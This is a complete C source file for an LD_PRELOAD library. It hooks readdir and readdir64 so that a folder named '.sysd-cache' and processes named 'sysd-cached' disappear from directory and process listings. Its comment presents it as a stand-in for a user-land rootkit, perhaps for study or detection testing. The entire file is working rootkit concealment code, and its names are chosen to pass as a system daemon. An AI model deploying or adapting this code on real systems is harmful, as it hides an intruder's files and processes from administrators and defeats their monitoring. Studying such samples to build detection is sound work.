/* A preload library that leaves two kinds of directory entries out: a folder
 * of a fixed name, and processes of a fixed name. Enough to stand for a
 * user-land rootkit; it changes nothing else. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char folder[] = ".sysd-cache", process[] = "sysd-cached";

static int hidden(const char *name) {
    if (!strcmp(name, folder)) return 1;
    for (const char *p = name; *p; p++)
        if (!isdigit((unsigned char)*p)) return 0;
    char path[64], comm[32] = "";
    snprintf(path, sizeof path, "/proc/%.20s/comm", name);
    int f = open(path, O_RDONLY | O_CLOEXEC);
    if (f < 0) return 0;
    ssize_t n = read(f, comm, sizeof comm - 1);
    close(f);
    return n > 1 && (size_t)n == sizeof process && !strncmp(comm, process, sizeof process - 1);
}

struct dirent *readdir(DIR *d) {
    static struct dirent *(*real)(DIR *);
    if (!real) real = (struct dirent *(*)(DIR *))dlsym(RTLD_NEXT, "readdir");
    struct dirent *e;
    while ((e = real(d)) && hidden(e->d_name)) {}
    return e;
}

struct dirent64 *readdir64(DIR *d) {
    static struct dirent64 *(*real)(DIR *);
    if (!real) real = (struct dirent64 *(*)(DIR *))dlsym(RTLD_NEXT, "readdir64");
    struct dirent64 *e;
    while ((e = real(d)) && hidden(e->d_name)) {}
    return e;
}
